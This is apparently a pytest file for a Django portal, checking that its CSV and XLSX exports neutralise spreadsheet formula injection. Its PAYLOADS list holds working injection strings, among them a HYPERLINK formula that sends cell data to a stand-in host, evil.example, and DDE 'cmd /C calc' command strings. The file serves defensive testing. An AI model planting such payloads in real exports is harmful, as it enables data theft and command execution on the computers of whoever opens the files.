"""CSV (and XLSX) injection across every export: text that a spreadsheet would run as a
formula (a cell starting with = + - @, a tab or a carriage return) is planted through the
services in every field an export carries, each export is downloaded by a user allowed to
have it, and no cell of any export may start with a formula character.

`test_every_export_is_covered` fails when a new view or service writes CSV or a
spreadsheet and is not in `KNOWN_WRITERS` / `KNOWN_ROUTES` below: add it here, with a
case in `EXPORTS`."""

from __future__ import annotations

import ast
import csv
import datetime
import io
import uuid
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from cities import services as city_services
from consultations import services as consultation_services
from consultations.models import QuestionKind, SurveyStatus
from tests.factories import SurveyFactory, SurveyQuestionFactory, choice, seeded_theme, texts
from upr_portal.lib.csvsafe import FORMULA_PREFIXES

pytestmark = pytest.mark.django_db

BASE_DIR = Path(settings.BASE_DIR)
APP_PACKAGES = ("accounts", "accountability", "cities", "consultations", "reports", "upr_portal")

# What a spreadsheet would evaluate: the classic prefixes, and each behind a tab or CR.
PAYLOADS = (
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
)

# (module, function) of every piece of app code that writes CSV or a spreadsheet.
KNOWN_WRITERS = {
    ("consultations/views/testimony.py", "testimony_export"),
    ("consultations/services/testimony.py", "testimony_export_csv"),
    ("consultations/views/surveys.py", "_export"),
    ("consultations/services/responses.py", "survey_export"),
    ("consultations/services/responses.py", "_xlsx"),
    ("consultations/views/imports.py", "import_template"),
    ("consultations/csv_import.py", "template_csv"),
    ("reports/views/national.py", "counts_export"),
}
WRITER_MARKS = (
    "text/csv",
    "spreadsheetml",
    "csv.writer",
    "csv.DictWriter",
    "openpyxl",
    "xlsxwriter",
)
# Every route that downloads one of them.
KNOWN_ROUTES = {
    "consultations:testimony_export",
    "consultations:survey_export_csv",
    "consultations:survey_export_xlsx",
    "consultations:import_template",
    "national_reports:counts_export",
}


# --------------------------------------------------------------------------- the guard


def _writers() -> set[tuple[str, str]]:
    found = set()
    for package in APP_PACKAGES:
        for path in (BASE_DIR / package).rglob("*.py"):
            if "migrations" in path.parts:
                continue
            source = path.read_text()
            if not any(mark in source for mark in WRITER_MARKS):
                continue
            for node in ast.walk(ast.parse(source)):
                if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
                    body = ast.get_source_segment(source, node) or ""
                    inner = {
                        n.name
                        for n in ast.walk(node)
                        if n is not node and isinstance(n, ast.FunctionDef | ast.AsyncFunctionDef)
                    }
                    if any(mark in body for mark in WRITER_MARKS) and not inner:
                        found.add((str(path.relative_to(BASE_DIR)), node.name))
    return found


def _routes(patterns=None, namespace: str = "") -> set[tuple[str, str]]:
    """(name, route) of every URL pattern."""
    out = set()
    for p in patterns if patterns is not None else get_resolver().url_patterns:
        if isinstance(p, URLResolver):
            ns = f"{namespace}{p.namespace}:" if p.namespace else namespace
            prefix = str(p.pattern)
            out |= {(n, prefix + r) for n, r in _routes(p.url_patterns, ns)}
        elif isinstance(p, URLPattern) and p.name:
            out.add((f"{namespace}{p.name}", str(p.pattern)))
    return out


def test_every_export_is_covered():
    writers = _writers()
    assert writers - KNOWN_WRITERS == set(), "new CSV/XLSX writers: add them to this test"
    assert writers >= KNOWN_WRITERS, "a known writer moved: update KNOWN_WRITERS"
    routes = _routes()
    exporting = {
        name
        for name, route in routes
        if route.endswith((".csv", ".xlsx", ".xls", ".tsv", ".ods")) or "export" in name
    }
    assert exporting == KNOWN_ROUTES
    assert set(EXPORTS) == KNOWN_ROUTES


# --------------------------------------------------------------------------- the data


@pytest.fixture
def planted(world):
    """Every text an export carries, planted through the services."""
    organizer, city, cycle = world.a.organizer, world.a.city, world.cycle
    theme = city_services.theme_create(
        actor=world.coordinator,
        slug="formula-theme",
        name_en=PAYLOADS[3],
        name_es=PAYLOADS[0],
        instruments=["ICCPR"],
        sort_order=0,
    )
    evil_city = city_services.city_create(
        actor=world.coordinator, name=PAYLOADS[0], state="Oregon", slug="evil-city"
    )
    consultations = [
        consultation_services.consultation_create(
            actor=organizer,
            city=city,
            cycle=cycle,
            themes=[theme],
            title=payload,
            kind="community_conversation",
            starts_at=timezone.now() - datetime.timedelta(days=2),
            place=payload,
        )
        for payload in PAYLOADS[:3]
    ]
    for n, payload in enumerate(PAYLOADS):
        testimony = consultation_services.testimony_create(
            actor=organizer,
            city=city,
            cycle=cycle,
            themes=[theme, seeded_theme()],
            consultation=consultations[n % len(consultations)],
            narrative=payload,
            summary=payload[:300],
            area=payload[:100],
            nature="problem",
            source="event",
            language="en",
            consent_level="anonymous",
            consent_method="verbal",
        )
        consultation_services.testimony_redact(
            actor=world.a.lead, testimony=testimony, redacted_quote=payload
        )
    # Counts for the national CSV in the planted city too.
    consultation_services.testimony_create(
        actor=world.coordinator,
        city=evil_city,
        cycle=cycle,
        themes=[theme],
        narrative="Plain words.",
        nature="problem",
        source="event",
        language="en",
        consent_level="anonymous",
        consent_method="verbal",
    )

    survey = SurveyFactory(city=city, title=texts(PAYLOADS[1]), status=SurveyStatus.OPEN)
    free = SurveyQuestionFactory(
        survey=survey, kind=QuestionKind.LONG_TEXT, label=texts(PAYLOADS[0])
    )
    pick = SurveyQuestionFactory(
        survey=survey,
        kind=QuestionKind.MULTIPLE,
        label=texts(PAYLOADS[2]),
        options=[choice("a", PAYLOADS[3]), choice("b", PAYLOADS[4])],
    )
    themes_q = SurveyQuestionFactory(survey=survey, kind=QuestionKind.THEME, label=texts("Topics"))
    for payload in PAYLOADS:
        consultation_services.survey_response_submit(
            survey=survey,
            submission_id=uuid.uuid4(),
            language="en",
            answers={
                str(free.uuid): payload,
                str(pick.uuid): ["a", "b"],
                str(themes_q.uuid): [theme.slug],
            },
        )
    return {"survey": survey, "theme": theme, "evil_city": evil_city}


# --------------------------------------------------------------------------- the exports


def _csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _xlsx_rows(body: bytes) -> list[list[str]]:
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    rows = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"a formula cell: {cell.coordinate}={cell.value!r}"
            rows.append(["" if c.value is None else str(c.value) for c in row])
    return rows


EXPORTS = {
    # route: (who downloads it, URL kwargs maker, parser, planted texts it must carry)
    "consultations:testimony_export": (
        "organizer",
        lambda w, p: {"city_uuid": w.a.city.uuid},
        _csv_rows,
        True,
    ),
    "consultations:survey_export_csv": (
        "organizer",
        lambda w, p: {"city_uuid": w.a.city.uuid, "survey_uuid": p["survey"].uuid},
        _csv_rows,
        True,
    ),
    "consultations:survey_export_xlsx": (
        "organizer",
        lambda w, p: {"city_uuid": w.a.city.uuid, "survey_uuid": p["survey"].uuid},
        _xlsx_rows,
        True,
    ),
    "consultations:import_template": (
        "organizer",
        lambda w, p: {"city_uuid": w.a.city.uuid},
        _csv_rows,
        False,  # fixed headers only
    ),
    "national_reports:counts_export": ("coordinator", lambda w, p: {}, _csv_rows, True),
}


def _user(world, who: str):
    return world.coordinator if who == "coordinator" else getattr(world.a, who)


@pytest.mark.parametrize("route", sorted(EXPORTS))
def test_no_cell_of_an_export_starts_a_formula(world, planted, login, route):
    who, kwargs, parse, carries_planted = EXPORTS[route]
    client = login(_user(world, who))
    response = client.get(reverse(route, kwargs=kwargs(world, planted)))
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    rows = parse(body)
    cells = [cell for row in rows for cell in row]
    assert len(rows) >= 1 and cells
    bad = [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    assert bad == [], f"{route}: cells a spreadsheet would run: {bad[:5]}"
    if carries_planted:
        # Not vacuous: the planted formulas are there, neutralised with a leading quote.
        neutralised = [cell for cell in cells if cell.startswith("'") and cell[1:2] in "=+-@\t\r"]
        assert neutralised, f"{route}: no planted formula reached the export"


def test_every_planted_formula_reaches_the_testimony_export_neutralised(world, planted, login):
    client = login(world.a.organizer)
    response = client.get(reverse("consultations:testimony_export", args=[world.a.city.uuid]))
    cells = {cell for row in _csv_rows(response.content) for cell in row}
    for payload in PAYLOADS:
        stored = payload.strip()  # services trim surrounding whitespace from typed text
        if stored.startswith(FORMULA_PREFIXES):
            assert "'" + stored in cells, f"{payload!r} missing or not neutralised"
        else:
            assert stored in cells
